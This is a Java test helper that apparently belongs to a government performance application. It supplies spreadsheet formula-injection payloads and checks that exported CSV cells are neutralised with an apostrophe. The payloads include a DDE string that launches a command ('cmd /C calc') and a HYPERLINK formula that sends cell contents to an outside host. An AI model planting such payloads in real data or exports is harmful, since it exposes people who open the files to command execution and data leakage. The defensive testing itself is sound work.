package id.go.kinerja.infrastructure;

import java.util.List;
import java.util.regex.Pattern;

/**
 * Text that a spreadsheet runs as a formula if a CSV file carries it raw (issue 13), for tests that store it
 * wherever a user may type text and then read the exported files back.
 */
public final class FormulaPayloads {

    public static final List<String> ALL = List.of(
            "=HYPERLINK(\"http://x\"&A1,\"y\")",
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "+1+1",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1");

    /**
     * What a spreadsheet evaluates, written independently of the services' guard: after any spaces or double quotes,
     * one of = + - @ (or their full-width forms), or a leading tab, carriage return or line feed. A leading apostrophe
     * marks the cell as text.
     */
    private static final Pattern EVALUATED = Pattern.compile("[\\t\\r\\n].*|[\\p{Zs} \"]*[=+\\-@\uFF1D\uFF0B\uFF0D\uFF20].*",
            Pattern.DOTALL);
    private static final Pattern NUMBER = Pattern.compile("-?\\d+([.,]\\d+)?");

    private FormulaPayloads() {
    }

    /** The payload of {@link #ALL} at a position, cycling, so that many fields get different ones. */
    public static String payload(int i) {
        return ALL.get(Math.floorMod(i, ALL.size()));
    }

    /** True when a spreadsheet would run the cell: it looks like a formula and is no plain number. */
    public static boolean evaluated(String cell) {
        return EVALUATED.matcher(cell).matches() && !NUMBER.matcher(cell).matches();
    }

    /** Fails, naming the cell, if any cell of the parsed file would run as a formula. */
    public static void assertNoCellIsAFormula(List<List<String>> rows) {
        for (int r = 0; r < rows.size(); r++) {
            for (int c = 0; c < rows.get(r).size(); c++) {
                String cell = rows.get(r).get(c);
                if (evaluated(cell)) {
                    throw new AssertionError("row " + (r + 1) + ", column " + (c + 1) + " would run as a formula: "
                            + cell.replace("\t", "\\t"));
                }
            }
        }
    }

    /**
     * True when some cell is the payload as the CSV writer neutralises it: the text kept, with an apostrophe (the
     * services strip the surrounding white space of names, so the tab payload may arrive without its tab).
     */
    public static boolean containsNeutralised(List<List<String>> rows, String payload) {
        return rows.stream().flatMap(List::stream)
                .anyMatch(cell -> cell.equals("'" + payload) || cell.equals("'" + payload.strip()));
    }
}
